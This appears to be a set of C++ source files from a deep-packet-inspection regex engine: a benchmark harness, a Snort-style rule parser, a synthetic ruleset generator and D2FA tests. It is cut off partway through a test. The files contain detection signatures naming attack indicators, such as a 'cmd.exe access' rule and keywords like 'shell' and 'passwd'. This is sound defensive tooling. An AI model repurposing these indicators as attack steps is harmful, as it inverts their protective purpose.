  trace.for_each_packet([&](const flow::Packet& p) { packets.push_back(p); });
  Throughput result;
  std::uint64_t cycles = 0;
  int timed_reps = 0;
  for (int rep = 0; rep < reps; ++rep) {
    InspectorT<EngineT> inspector(engine);
    inspector.set_batch_lanes(lanes);
    CountingSink sink;
    const std::uint64_t start = util::rdtsc_now();
    for (std::size_t i = 0; i < packets.size(); i += burst) {
      const std::size_t n = std::min(burst, packets.size() - i);
      inspector.packet_batch(packets.data() + i, n, sink);
    }
    const std::uint64_t elapsed = util::rdtsc_now() - start;
    const bool warmup = reps > 1 && rep == 0;
    if (!warmup) {
      cycles += elapsed;
      ++timed_reps;
    }
    result.matches = sink.count;
    result.flows = inspector.flow_count();
  }
  if (trace.payload_bytes() > 0 && timed_reps > 0) {
    result.cycles_per_byte = static_cast<double>(cycles) /
                             (static_cast<double>(timed_reps) *
                              static_cast<double>(trace.payload_bytes()));
  }
  return result;
}

struct PipelineThroughput {
  double cycles_per_byte = 0.0;  ///< wall cycles / payload bytes, submit→finish
  std::uint64_t matches = 0;     ///< merged matches in the final repetition
  std::vector<pipeline::ShardStats> shards;  ///< per-shard stats, final rep
};

/// Run a trace through the sharded pipeline and report wall cycles per
/// payload byte across all shards (submit through finish, including queue
/// hand-off). One Engine is shared by every shard; each shard owns a flow
/// table of Contexts. First rep warms caches when reps > 1. Passing
/// `metrics` attaches live telemetry to every repetition (instrumented
/// measurement — see measure_throughput).
template <typename EngineT>
PipelineThroughput measure_pipeline_throughput(const EngineT& engine,
                                               const trace::Trace& trace,
                                               std::size_t shards, int reps = 2,
                                               obs::MetricsRegistry* metrics = nullptr) {
  PipelineThroughput result;
  std::uint64_t cycles = 0;
  int timed_reps = 0;
  for (int rep = 0; rep < reps; ++rep) {
    pipeline::Options opt;
    opt.shards = shards;
    opt.metrics = metrics;
    pipeline::ShardedInspector<EngineT> pipe(engine, opt);
    pipe.start();
    const std::uint64_t start = util::rdtsc_now();
    trace.for_each_packet([&](const flow::Packet& p) { pipe.submit(p); });
    pipe.finish();
    const std::uint64_t elapsed = util::rdtsc_now() - start;
    const bool warmup = reps > 1 && rep == 0;
    if (!warmup) {
      cycles += elapsed;
      ++timed_reps;
    }
    result.matches = pipe.totals().matches;
    result.shards = pipe.stats();
  }
  if (trace.payload_bytes() > 0 && timed_reps > 0) {
    result.cycles_per_byte = static_cast<double>(cycles) /
                             (static_cast<double>(timed_reps) *
                              static_cast<double>(trace.payload_bytes()));
  }
  return result;
}

}  // namespace mfa::eval
