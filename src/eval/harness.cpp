#include "eval/harness.h"

#include "regex/sample.h"

namespace mfa::eval {

Suite build_suite(const patterns::PatternSet& set, const SuiteOptions& options) {
  Suite suite;
  suite.set_name = set.name;
  suite.patterns = set.patterns;

  {
    util::WallTimer t;
    suite.nfa = nfa::build_nfa(set.patterns);
    suite.nfa_build.seconds = t.seconds();
    suite.nfa_build.ok = true;
    suite.nfa_build.states = suite.nfa.state_count();
    suite.nfa_build.image_bytes = suite.nfa.memory_image_bytes();
  }

  if (options.build_dfa) {
    dfa::BuildOptions d;
    d.max_states = options.dfa_max_states;
    dfa::BuildStats stats;
    suite.dfa = dfa::build_dfa(suite.nfa, d, &stats);
    suite.dfa_build.seconds = stats.seconds;
    suite.dfa_build.ok = suite.dfa.has_value();
    if (suite.dfa) {
      suite.dfa_build.states = suite.dfa->state_count();
      // The DFA baseline is accounted as a raw 256-wide table (Sec. V-B).
      suite.dfa_build.image_bytes = suite.dfa->memory_image_bytes(true);
    }
  }

  {
    core::BuildOptions m;
    m.split = options.split;
    m.dfa.max_states = options.mfa_max_states;
    suite.mfa = core::build_mfa(set.patterns, m, &suite.mfa_stats);
    suite.mfa_build.seconds = suite.mfa_stats.seconds;
    suite.mfa_build.ok = suite.mfa.has_value();
    if (suite.mfa) {
      suite.mfa_build.states = suite.mfa->character_dfa().state_count();
      suite.mfa_build.image_bytes = suite.mfa->memory_image_bytes();
    }
  }

  if (options.build_hfa) {
    hfa::BuildOptions h;
    h.split = options.split;
    h.dfa.max_states = options.mfa_max_states;
    hfa::BuildStats stats;
    suite.hfa = hfa::build_hfa(set.patterns, h, &stats);
    suite.hfa_build.seconds = stats.seconds;
    suite.hfa_build.ok = suite.hfa.has_value();
    if (suite.hfa) {
      suite.hfa_build.states = suite.hfa->state_count();
      suite.hfa_build.image_bytes = suite.hfa->memory_image_bytes();
    }
  }

  if (options.build_xfa) {
    xfa::BuildOptions x;
    x.split = options.split;
    x.dfa.max_states = options.mfa_max_states;
    xfa::BuildStats stats;
    suite.xfa = xfa::build_xfa(set.patterns, x, &stats);
    suite.xfa_build.seconds = stats.seconds;
    suite.xfa_build.ok = suite.xfa.has_value();
    if (suite.xfa) {
      suite.xfa_build.states = suite.xfa->character_dfa().state_count();
      suite.xfa_build.image_bytes = suite.xfa->memory_image_bytes();
    }
  }

  return suite;
}

std::vector<std::string> attack_exemplars(const patterns::PatternSet& set,
                                          std::size_t per_pattern, std::uint64_t seed) {
  util::Rng rng(seed);
  std::vector<std::string> out;
  for (const auto& p : set.patterns) {
    // Anchored patterns only match at flow start; an exemplar spliced into
    // the middle of a flow can never fire, so sample unanchored rules only.
    if (p.regex.anchored) continue;
    for (std::size_t i = 0; i < per_pattern; ++i) {
      std::string s = regex::sample_match(p.regex, rng);
      if (!s.empty() && s.size() < 4096) out.push_back(std::move(s));
    }
  }
  return out;
}

}  // namespace mfa::eval
