#include "rules/ruleset_gen.h"

#include <array>
#include <cstdio>

#include "util/rng.h"

namespace mfa::rules {
namespace {

// Small protocol-flavored vocabularies so generated rules look like (and
// parse like) real signatures rather than uniform noise. Literal diversity
// comes from the random suffix appended to each token.
constexpr std::array<const char*, 12> kVerbs = {
    "GET", "POST", "HEAD", "PUT", "DELETE", "OPTIONS",
    "TRACE", "CONNECT", "PROPFIND", "SEARCH", "REPORT", "PATCH"};
constexpr std::array<const char*, 16> kWords = {
    "admin",  "login",   "shell",   "passwd", "config", "update",
    "upload", "session", "token",   "query",  "index",  "export",
    "backup", "debug",   "payload", "beacon"};
constexpr std::array<const char*, 8> kExts = {
    ".php", ".asp", ".cgi", ".jsp", ".exe", ".dll", ".bin", ".dat"};

std::string word(util::Rng& rng) {
  return std::string(kWords[rng.below(kWords.size())]) +
         rng.lower_string(2 + rng.below(5));
}

// One content literal. Plain tokens stay in text form; occasionally a hex
// section carrying bytes that would need escaping in regex form (the
// content_to_regex hex path must keep them literal).
std::string content_literal(util::Rng& rng) {
  std::string lit = "/" + word(rng);
  if (rng.chance(0.3)) lit += kExts[rng.below(kExts.size())];
  return lit;
}

std::string hex_section(util::Rng& rng) {
  static constexpr std::array<unsigned char, 8> kBytes = {
      0x00, 0x01, 0x0d, 0x0a, 0x2e, 0x2a, 0x7c, 0xff};
  std::string out = "|";
  const std::size_t n = 2 + rng.below(4);
  char buf[4];
  for (std::size_t i = 0; i < n; ++i) {
    std::snprintf(buf, sizeof(buf), "%02x ", kBytes[rng.below(kBytes.size())]);
    out += buf;
  }
  out.back() = '|';
  return out;
}

std::string pcre_option(util::Rng& rng) {
  // Bounded pcre bodies: literal-heavy with small classes and counted
  // repeats, so per-rule piece DFAs stay linear in rule count. The loader
  // uses the value verbatim (no PCRE delimiter stripping), matching the
  // existing dialect where '/' is a literal.
  switch (rng.below(4)) {
    case 0:
      return ".*" + word(rng) + "=[0-9]{1," + std::to_string(2 + rng.below(3)) +
             "}";
    case 1:
      return ".*(" + word(rng) + "|" + word(rng) + ")" + rng.lower_string(3);
    case 2:
      return ".*" + word(rng) + "[a-f0-9]{4}";
    default:
      return std::string(kVerbs[rng.below(kVerbs.size())]) + "\\x20/" +
             word(rng);
  }
}

// True when some suffix of `a` equals a prefix of `b`, case-folded (nocase
// contents compile to per-character classes, so overlap is case-blind).
// Adjacent contents that overlap this way make `.*A.*B` undecomposable —
// the splitter correctly rejects the boundary because B could begin inside
// A's match — and every whole `.*A.*B` piece left in the union DFA
// multiplies subset states by the "A seen" guard. A handful of such rules
// is enough to blow a 10k-state fixture past millions of states, so the
// generator redraws until chain neighbors are overlap-free (real rule
// authors pick distinctive literals; boundary collisions are an artifact
// of random drawing, not a property being benchmarked).
bool boundary_overlap(const std::string& a, const std::string& b) {
  const auto fold = [](char c) {
    return c >= 'A' && c <= 'Z' ? static_cast<char>(c + 32) : c;
  };
  const std::size_t max_k = a.size() < b.size() ? a.size() : b.size();
  for (std::size_t k = 1; k <= max_k; ++k) {
    bool equal = true;
    for (std::size_t i = 0; i < k && equal; ++i)
      equal = fold(a[a.size() - k + i]) == fold(b[i]);
    if (equal) return true;
  }
  return false;
}

}  // namespace

std::string generate_ruleset(const RulesetGenOptions& options) {
  std::string out;
  out.reserve(options.rules * 120);
  for (std::size_t i = 0; i < options.rules; ++i) {
    // Per-rule generator state depends only on (seed, i), never on how many
    // rules precede it, so fixtures of different sizes share a common prefix.
    std::uint64_t sm = options.seed + i;
    util::Rng rng(util::splitmix64(sm));
    const std::size_t sid = 100000 + i;

    out += "alert tcp any any -> any any (msg:\"fixture rule ";
    out += std::to_string(sid);
    out += "\"; ";

    const std::uint64_t shape = rng.below(100);
    if (shape < 55) {
      // Single literal content, sometimes case-insensitive.
      out += "content:\"" + content_literal(rng) + "\"; ";
      if (rng.chance(0.35)) out += "nocase; ";
    } else if (shape < 70) {
      // Multi-content chain (AND across the payload). Neighbors are redrawn
      // until their boundary is overlap-free so the chain stays decomposable
      // (see boundary_overlap above).
      const std::size_t parts = 2 + rng.below(2);
      std::string prev;
      for (std::size_t p = 0; p < parts; ++p) {
        std::string part = word(rng);
        for (int retry = 0; retry < 32 && boundary_overlap(prev, part); ++retry)
          part = word(rng);
        out += "content:\"" + part + "\"; ";
        if (rng.chance(0.25)) out += "nocase; ";
        prev = std::move(part);
      }
    } else if (shape < 85) {
      // Content with an embedded hex section.
      out += "content:\"" + word(rng) + hex_section(rng) + word(rng) + "\"; ";
    } else {
      // pcre rule, usually qualified by a fast-pattern content.
      if (rng.chance(0.7)) out += "content:\"" + word(rng) + "\"; ";
      out += "pcre:\"" + pcre_option(rng) + "\"; ";
    }

    out += "sid:" + std::to_string(sid) + "; rev:1;)\n";
  }
  return out;
}

}  // namespace mfa::rules
