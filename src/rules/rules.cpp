#include "rules/rules.h"

#include <cstdio>
#include <fstream>
#include <sstream>

#include "regex/parser.h"

namespace mfa::rules {

namespace {

// ASCII-only classification. The <cctype> functions consult the global
// locale: under a non-"C" locale, bytes 0x80-0xff can classify as alpha or
// space, which would let a raw high byte bypass escaping (and fold through
// tolower/toupper) in content_to_regex. Rule-file semantics must not depend
// on the host locale, so classify bytes explicitly.
bool ascii_space(unsigned char c) {
  return c == ' ' || c == '\t' || c == '\n' || c == '\v' || c == '\f' || c == '\r';
}

bool ascii_alpha(unsigned char c) {
  return (c >= 'A' && c <= 'Z') || (c >= 'a' && c <= 'z');
}

unsigned char ascii_lower(unsigned char c) {
  return (c >= 'A' && c <= 'Z') ? static_cast<unsigned char>(c + ('a' - 'A')) : c;
}

unsigned char ascii_upper(unsigned char c) {
  return (c >= 'a' && c <= 'z') ? static_cast<unsigned char>(c - ('a' - 'A')) : c;
}

bool is_hex(char c) {
  return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F');
}

int hex_val(char c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  return c - 'A' + 10;
}

/// Escape one byte for inclusion in a regex literal.
void escape_into(std::string& out, unsigned char c) {
  static const std::string_view meta = ".|()[]*+?{}^$\\/";
  if (c >= 0x20 && c < 0x7f) {
    if (meta.find(static_cast<char>(c)) != std::string_view::npos) out += '\\';
    out += static_cast<char>(c);
    return;
  }
  char buf[8];
  std::snprintf(buf, sizeof buf, "\\x%02x", c);
  out += buf;
}

/// One `key:value;` or bare `key;` option from a rule body.
struct BodyOption {
  std::string key;
  std::string value;  // unquoted
};

/// Split a rule body "k:v; k2; k3:v3;" into options, honoring quotes.
std::optional<std::vector<BodyOption>> split_body(std::string_view body) {
  std::vector<BodyOption> out;
  std::size_t i = 0;
  const auto skip_ws = [&] {
    while (i < body.size() && ascii_space(static_cast<unsigned char>(body[i]))) ++i;
  };
  while (true) {
    skip_ws();
    if (i >= body.size()) break;
    BodyOption opt;
    while (i < body.size() && body[i] != ':' && body[i] != ';') opt.key += body[i++];
    while (!opt.key.empty() && ascii_space(static_cast<unsigned char>(opt.key.back())))
      opt.key.pop_back();
    if (i < body.size() && body[i] == ':') {
      ++i;
      skip_ws();
      bool quoted = false;
      if (i < body.size() && body[i] == '"') {
        quoted = true;
        ++i;
        while (i < body.size()) {
          if (body[i] == '\\' && i + 1 < body.size()) {
            // Snort escapes '"' and ';' inside quoted values.
            if (body[i + 1] == '"' || body[i + 1] == ';' || body[i + 1] == '\\') {
              opt.value += body[i + 1];
              i += 2;
              continue;
            }
            opt.value += body[i++];
            continue;
          }
          if (body[i] == '"') break;
          opt.value += body[i++];
        }
        if (i >= body.size()) return std::nullopt;  // unterminated quote
        ++i;                                        // closing quote
      }
      if (!quoted) {
        while (i < body.size() && body[i] != ';') opt.value += body[i++];
        while (!opt.value.empty() &&
               ascii_space(static_cast<unsigned char>(opt.value.back())))
          opt.value.pop_back();
      }
    }
    skip_ws();
    if (i < body.size()) {
      if (body[i] != ';') return std::nullopt;
      ++i;
    }
    if (!opt.key.empty()) out.push_back(std::move(opt));
  }
  return out;
}

}  // namespace

std::optional<std::string> content_to_regex(std::string_view content, bool nocase) {
  std::string out;
  const auto append = [&](unsigned char c) {
    // nocase contents fold per character ("[aA]") so the result composes
    // with other regex fragments without whole-pattern flags. Only ASCII
    // letters fold — anything else (metacharacters, high bytes, bytes that
    // arrived via |hex| sections) goes through escape_into so it always
    // matches literally.
    if (nocase && ascii_alpha(c)) {
      out += '[';
      out += static_cast<char>(ascii_lower(c));
      out += static_cast<char>(ascii_upper(c));
      out += ']';
      return;
    }
    escape_into(out, c);
  };
  std::size_t i = 0;
  while (i < content.size()) {
    if (content[i] == '|') {
      // Hex section: pairs of hex digits separated by spaces.
      ++i;
      while (i < content.size() && content[i] != '|') {
        if (ascii_space(static_cast<unsigned char>(content[i]))) {
          ++i;
          continue;
        }
        if (i + 1 >= content.size() || !is_hex(content[i]) || !is_hex(content[i + 1]))
          return std::nullopt;
        append(static_cast<unsigned char>(hex_val(content[i]) * 16 +
                                          hex_val(content[i + 1])));
        i += 2;
      }
      if (i >= content.size()) return std::nullopt;  // missing closing '|'
      ++i;
    } else {
      append(static_cast<unsigned char>(content[i]));
      ++i;
    }
  }
  if (out.empty()) return std::nullopt;
  return out;
}

LoadResult parse_rules(std::string_view text) {
  LoadResult result;

  // Assemble logical lines (honoring trailing-backslash continuations).
  std::vector<std::pair<std::size_t, std::string>> lines;  // (line no, text)
  {
    std::size_t line_no = 0;
    std::size_t start_line = 0;
    std::string pending;
    std::istringstream in{std::string(text)};
    std::string raw;
    while (std::getline(in, raw)) {
      ++line_no;
      if (!raw.empty() && raw.back() == '\r') raw.pop_back();
      if (pending.empty()) start_line = line_no;
      const bool continues = !raw.empty() && raw.back() == '\\';
      if (continues) raw.pop_back();
      pending += raw;
      if (continues) continue;
      lines.emplace_back(start_line, pending);
      pending.clear();
    }
    if (!pending.empty()) lines.emplace_back(start_line, pending);
  }

  for (const auto& [line_no, line] : lines) {
    std::size_t i = 0;
    while (i < line.size() && ascii_space(static_cast<unsigned char>(line[i]))) ++i;
    if (i >= line.size() || line[i] == '#') continue;

    const auto fail = [&](std::string message) {
      result.errors.push_back(LoadError{line_no, std::move(message)});
    };

    const std::size_t open = line.find('(', i);
    if (open == std::string::npos || line.back() != ')') {
      fail("rule has no (...) body");
      continue;
    }
    // Header: action proto src sport -> dst dport
    std::istringstream header{line.substr(i, open - i)};
    Rule rule;
    std::string src, sport, arrow, dst, dport;
    header >> rule.action >> rule.proto >> src >> sport >> arrow >> dst >> dport;
    if (rule.action.empty() || rule.proto.empty()) {
      fail("bad rule header");
      continue;
    }

    const auto body = split_body(
        std::string_view(line).substr(open + 1, line.size() - open - 2));
    if (!body) {
      fail("malformed rule body");
      continue;
    }

    std::string pcre;
    std::vector<std::pair<std::string, bool>> contents;  // (raw text, nocase)
    bool body_ok = true;
    for (const auto& opt : *body) {
      if (opt.key == "msg") rule.msg = opt.value;
      else if (opt.key == "sid") rule.sid = static_cast<std::uint32_t>(
          std::strtoul(opt.value.c_str(), nullptr, 10));
      else if (opt.key == "pcre") {
        // A second pcre used to silently overwrite the first, changing
        // match semantics; reject the rule with a diagnostic instead.
        if (!pcre.empty()) {
          fail("duplicate pcre option (previous value would be discarded)");
          body_ok = false;
          break;
        }
        pcre = opt.value;
      } else if (opt.key == "content") {
        contents.emplace_back(opt.value, false);
      } else if (opt.key == "nocase") {
        // nocase modifies the preceding content; with none to modify it
        // used to be dropped silently, yielding a case-sensitive rule the
        // author believed was case-insensitive.
        if (contents.empty()) {
          fail("nocase before any content has nothing to modify");
          body_ok = false;
          break;
        }
        contents.back().second = true;
      }
      // everything else (rev, classtype, flow, depth, offset...) ignored
    }
    if (!body_ok) continue;

    if (rule.sid == 0) {
      fail("rule has no sid");
      continue;
    }

    if (!pcre.empty()) {
      rule.pattern = pcre;
    } else if (!contents.empty()) {
      // Multiple contents match in order with arbitrary gaps: join with
      // dot-star (which the splitter then decomposes). Per-content nocase
      // folds inside content_to_regex, so joining stays uniform.
      std::string joined = ".*";
      bool bad = false;
      for (std::size_t c = 0; c < contents.size(); ++c) {
        auto converted = content_to_regex(contents[c].first, contents[c].second);
        if (!converted) {
          bad = true;
          break;
        }
        if (c > 0) joined += ".*";
        joined += *converted;
      }
      if (bad) joined.clear();
      if (joined.empty()) {
        fail("bad content string");
        continue;
      }
      rule.pattern = joined;
    } else {
      fail("rule has neither pcre nor content");
      continue;
    }

    regex::ParseResult parsed = regex::parse(rule.pattern);
    if (!parsed.ok()) {
      fail("pattern does not parse: " + parsed.error->message);
      continue;
    }
    rule.regex = *std::move(parsed.regex);
    result.rules.push_back(std::move(rule));
  }
  return result;
}

LoadResult load_rules_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) {
    LoadResult r;
    r.errors.push_back(LoadError{0, "cannot open rule file: " + path});
    return r;
  }
  std::ostringstream buffer;
  buffer << in.rdbuf();
  return parse_rules(buffer.str());
}

std::vector<nfa::PatternInput> to_pattern_inputs(const std::vector<Rule>& rules) {
  std::vector<nfa::PatternInput> out;
  out.reserve(rules.size());
  for (const auto& rule : rules) out.push_back(nfa::PatternInput{rule.regex, rule.sid});
  return out;
}

}  // namespace mfa::rules
