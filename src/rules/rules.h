// Snort-style rule loading.
//
// The paper's S/B pattern sets come from Snort and Bro rule files
// (Sec. V-A). This module parses a pragmatic subset of the Snort rule
// language so real-world rule files can feed the MFA pipeline directly:
//
//   alert tcp $EXTERNAL_NET any -> $HOME_NET 80 \
//     (msg:"WEB-IIS cmd.exe access"; content:"cmd.exe"; nocase; \
//      pcre:"/.*cmd\.exe/i"; sid:1002; rev:3;)
//
// Supported: action/proto/address header (recorded, not enforced), msg,
// sid, pcre (preferred match source), content with |hex| escapes and
// nocase (used when no pcre is present; multiple contents become a
// dot-star-joined regex, Snort's implicit ordering), and comments/blank
// lines. Unknown body options are ignored. Each rule that fails to parse
// is reported and skipped, so one bad rule does not reject a rule file.
#pragma once

#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "nfa/nfa.h"
#include "regex/ast.h"

namespace mfa::rules {

struct Rule {
  std::uint32_t sid = 0;     ///< Snort rule id; used as the match id
  std::string msg;           ///< operator-facing description
  std::string action;        ///< alert/log/pass/drop...
  std::string proto;         ///< tcp/udp/ip/icmp
  std::string pattern;       ///< the regex actually compiled
  regex::Regex regex;        ///< parsed pattern
};

struct LoadError {
  std::size_t line = 0;  ///< 1-based line of the offending rule
  std::string message;
};

struct LoadResult {
  std::vector<Rule> rules;
  std::vector<LoadError> errors;
  [[nodiscard]] bool ok() const { return errors.empty(); }
};

/// Parse rule text (one rule per line; '\' line continuations allowed).
LoadResult parse_rules(std::string_view text);

/// Read and parse a rule file. A missing/unreadable file is reported as a
/// single error at line 0.
LoadResult load_rules_file(const std::string& path);

/// Convert loaded rules to compiler inputs (match id = sid).
std::vector<nfa::PatternInput> to_pattern_inputs(const std::vector<Rule>& rules);

/// Convert a Snort `content` string (with |68 65 78| hex sections) into an
/// escaped regex literal. Exposed for tests.
std::optional<std::string> content_to_regex(std::string_view content, bool nocase);

}  // namespace mfa::rules
