// Deterministic Snort-dialect ruleset fixture generator (ruleset scale).
//
// Real community rulesets (Snort community / ET-open) are thousands of
// mostly-literal content rules with a minority of pcre and hex-section
// rules. Shipping megabytes of third-party rule text in-tree is not an
// option, so bench_ruleset and the scale tests generate a synthetic
// analog: same option mix, same dialect (content with |hex| sections,
// nocase, multi-content chains, pcre), deterministic under a seed so
// compile artifacts are byte-reproducible across runs and machines.
#pragma once

#include <cstdint>
#include <string>

namespace mfa::rules {

struct RulesetGenOptions {
  std::size_t rules = 1000;
  std::uint64_t seed = 42;
};

/// Generate `rules` parseable open-dialect rules, one per line, with
/// unique sids starting at 100000. Deterministic in (rules, seed); a
/// prefix of a larger ruleset equals the smaller ruleset with the same
/// seed, so 1k/5k/10k fixtures nest.
std::string generate_ruleset(const RulesetGenOptions& options = {});

}  // namespace mfa::rules
