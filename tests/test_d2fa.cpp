#include "dfa/d2fa.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <cstdio>
#include <string>
#include <vector>

#include "engine_test_util.h"
#include "regex/sample.h"
#include "util/rng.h"

namespace mfa::dfa {
namespace {

using mfa::testing::compile_patterns;
using mfa::testing::sorted;

const std::vector<std::string> kSets[] = {
    {"abc", "cde"},
    {".*abcd.*efgh", ".*ijkl.*mnop"},
    {"x[0-9]{1,3}y", "a(b|c)+d", "^head"},
    {".*foo[0-9]{1,3}bar", "x.?y", "GET /[a-z]+", "\\x00\\x01\\x02"},
};

Dfa build_dense(const std::vector<std::string>& sources) {
  const nfa::Nfa n = nfa::build_nfa(compile_patterns(sources));
  auto d = build_dfa(n);
  EXPECT_TRUE(d.has_value());
  return *std::move(d);
}

TEST(D2fa, NextParityOverAllStatesAndBytes) {
  for (const auto& set : kSets) {
    const Dfa dense = build_dense(set);
    const D2fa delta(dense);
    ASSERT_EQ(delta.state_count(), dense.state_count());
    ASSERT_EQ(delta.start(), dense.start());
    ASSERT_EQ(delta.accepting_state_count(), dense.accepting_state_count());
    for (std::uint32_t s = 0; s < dense.state_count(); ++s) {
      for (unsigned b = 0; b < 256; ++b) {
        ASSERT_EQ(delta.next(s, static_cast<unsigned char>(b)),
                  dense.next(s, static_cast<unsigned char>(b)))
            << "state " << s << " byte " << b;
      }
    }
  }
}

TEST(D2fa, ChainLengthIsBounded) {
  for (const std::uint32_t bound : {0u, 1u, 2u, 4u}) {
    D2faOptions opts;
    opts.max_chain = bound;
    D2faStats stats;
    const Dfa dense = build_dense({".*abcd.*efgh", ".*ijkl.*mnop", "x[0-9]+y"});
    const D2fa delta(dense, opts, &stats);
    EXPECT_LE(stats.max_chain, bound);
    EXPECT_EQ(delta.max_chain(), stats.max_chain);
    if (bound == 0) {
      // No chains allowed: every state must keep its dense row.
      EXPECT_EQ(stats.roots, dense.state_count());
      EXPECT_EQ(stats.exception_entries, 0u);
    }
    // Parity holds at every bound.
    for (std::uint32_t s = 0; s < dense.state_count(); ++s)
      for (unsigned b = 0; b < 256; b += 7)
        ASSERT_EQ(delta.next(s, static_cast<unsigned char>(b)),
                  dense.next(s, static_cast<unsigned char>(b)));
  }
}

TEST(D2fa, CompressesRedundantAutomata) {
  // Many similar literal patterns produce highly redundant rows; the delta
  // layout must come in well under the dense class-compressed table.
  std::vector<std::string> pats;
  for (int i = 0; i < 40; ++i)
    pats.push_back(".*pattern" + std::to_string(i) + "suffix");
  const Dfa dense = build_dense(pats);
  D2faStats stats;
  const D2fa delta(dense, {}, &stats);
  EXPECT_LT(delta.compression_vs_dense(dense), 0.5);
  EXPECT_LT(stats.roots, dense.state_count() / 2);
}

TEST(D2fa, ExpandTableRoundTrips) {
  for (const auto& set : kSets) {
    const Dfa dense = build_dense(set);
    const D2fa delta(dense);
    const std::vector<std::uint32_t> expanded = delta.expand_table();
    const std::size_t words =
        static_cast<std::size_t>(dense.state_count()) * dense.column_count();
    ASSERT_EQ(expanded.size(), words);
    EXPECT_TRUE(std::equal(expanded.begin(), expanded.end(), dense.table_data()));
  }
}

TEST(D2fa, FeedParityFuzzWithChunkSeams) {
  // Carried contexts across randomized chunk seams must match the dense
  // engine byte for byte.
  const std::vector<std::string> pats = {".*abcd.*efgh", "x[0-9]{1,3}y",
                                         "a(b|c)+d"};
  const Dfa dense = build_dense(pats);
  const D2fa delta(dense);
  util::Rng rng(99);
  for (int round = 0; round < 50; ++round) {
    std::string input = rng.lower_string(rng.below(40));
    const auto& pick = pats[rng.below(pats.size())];
    input += regex::sample_match(regex::parse_or_die(pick), rng);
    input += rng.lower_string(rng.below(40));

    Dfa::Context dctx = dense.make_context();
    D2fa::Context cctx = delta.make_context();
    CollectingSink dsink;
    CollectingSink csink;
    std::size_t i = 0;
    while (i < input.size()) {
      const std::size_t len = std::min<std::size_t>(
          1 + rng.below(9), input.size() - i);
      const auto* p = reinterpret_cast<const std::uint8_t*>(input.data()) + i;
      dense.feed(dctx, p, len, i, dsink);
      delta.feed(cctx, p, len, i, csink);
      ASSERT_EQ(cctx.state, dctx.state) << "round " << round << " offset " << i;
      i += len;
    }
    EXPECT_EQ(sorted(std::move(csink.matches)), sorted(std::move(dsink.matches)));
  }
}

TEST(D2fa, FeedManyParityWithDense) {
  const std::vector<std::string> pats = {".*abcd.*efgh", "x[0-9]{1,3}y"};
  const Dfa dense = build_dense(pats);
  const D2fa delta(dense);
  util::Rng rng(7);
  constexpr std::size_t kJobs = 12;
  std::vector<std::string> inputs;
  for (std::size_t j = 0; j < kJobs; ++j) {
    std::string s = rng.lower_string(20 + rng.below(60));
    if (j % 2 == 0) s += "abcdzzefgh";
    inputs.push_back(std::move(s));
  }
  std::vector<Dfa::Context> dctx(kJobs);
  std::vector<D2fa::Context> cctx(kJobs);
  std::vector<Dfa::FeedJob> djobs(kJobs);
  std::vector<D2fa::FeedJob> cjobs(kJobs);
  for (std::size_t j = 0; j < kJobs; ++j) {
    dctx[j] = dense.make_context();
    cctx[j] = delta.make_context();
    const auto* p = reinterpret_cast<const std::uint8_t*>(inputs[j].data());
    djobs[j] = Dfa::FeedJob{&dctx[j], p, inputs[j].size(), 0};
    cjobs[j] = D2fa::FeedJob{&cctx[j], p, inputs[j].size(), 0};
  }
  std::vector<std::vector<Match>> dmatches(kJobs);
  std::vector<std::vector<Match>> cmatches(kJobs);
  dense.feed_many(djobs.data(), kJobs, [&](std::size_t j, std::uint32_t id,
                                           std::uint64_t end) {
    dmatches[j].push_back(Match{id, end});
  });
  delta.feed_many(cjobs.data(), kJobs, [&](std::size_t j, std::uint32_t id,
                                           std::uint64_t end) {
    cmatches[j].push_back(Match{id, end});
  });
  for (std::size_t j = 0; j < kJobs; ++j) {
    EXPECT_EQ(cctx[j].state, dctx[j].state) << j;
    EXPECT_EQ(sorted(std::move(cmatches[j])), sorted(std::move(dmatches[j]))) << j;
  }
}

TEST(D2fa, SerializeRoundTrip) {
  for (const auto& set : kSets) {
    const Dfa dense = build_dense(set);
    const D2fa delta(dense);
    util::FilePtr f(std::tmpfile());
    ASSERT_NE(f, nullptr);
    {
      util::BinWriter w(f.get());
      delta.serialize(w);
      ASSERT_TRUE(w.ok());
    }
    std::rewind(f.get());
    D2fa loaded;
    util::BinReader r(f.get());
    ASSERT_TRUE(D2fa::deserialize(r, loaded));
    EXPECT_EQ(loaded.state_count(), delta.state_count());
    EXPECT_EQ(loaded.max_chain(), delta.max_chain());
    EXPECT_EQ(loaded.exception_entries(), delta.exception_entries());
    for (std::uint32_t s = 0; s < dense.state_count(); ++s)
      for (unsigned b = 0; b < 256; b += 5)
        ASSERT_EQ(loaded.next(s, static_cast<unsigned char>(b)),
                  dense.next(s, static_cast<unsigned char>(b)));
  }
}

TEST(D2fa, ByteStompCorpusNeverCrashesLoader) {
  // Flip bytes all over a valid image: deserialize must either reject the
  // file or produce a structurally valid automaton — never crash.
  const Dfa dense = build_dense({".*abcd.*efgh", "x[0-9]{1,3}y"});
  const D2fa delta(dense);
  std::string image;
  {
    util::FilePtr f(std::tmpfile());
    ASSERT_NE(f, nullptr);
    util::BinWriter w(f.get());
    delta.serialize(w);
    ASSERT_TRUE(w.ok());
    std::rewind(f.get());
    std::fseek(f.get(), 0, SEEK_END);
    const long size = std::ftell(f.get());
    std::rewind(f.get());
    image.resize(static_cast<std::size_t>(size));
    ASSERT_EQ(std::fread(image.data(), 1, image.size(), f.get()), image.size());
  }
  util::Rng rng(1234);
  for (int round = 0; round < 300; ++round) {
    std::string stomped = image;
    const std::size_t pos = rng.below(stomped.size());
    stomped[pos] = static_cast<char>(rng.below(256));
    util::FilePtr f(std::tmpfile());
    ASSERT_NE(f, nullptr);
    ASSERT_EQ(std::fwrite(stomped.data(), 1, stomped.size(), f.get()),
              stomped.size());
    std::rewind(f.get());
    D2fa loaded;
    util::BinReader r(f.get());
    if (D2fa::deserialize(r, loaded)) {
      // Accepted images must scan safely.
      D2faScanner s(loaded);
      (void)s.scan(std::string("abcdzzefgh x12y"));
    }
  }
}

TEST(D2fa, ScannerMatchesReference) {
  const std::vector<std::string> pats = {".*abcd.*efgh", "x[0-9]{1,3}y",
                                         "GET /[a-z]+"};
  const Dfa dense = build_dense(pats);
  const D2fa delta(dense);
  for (const std::string input :
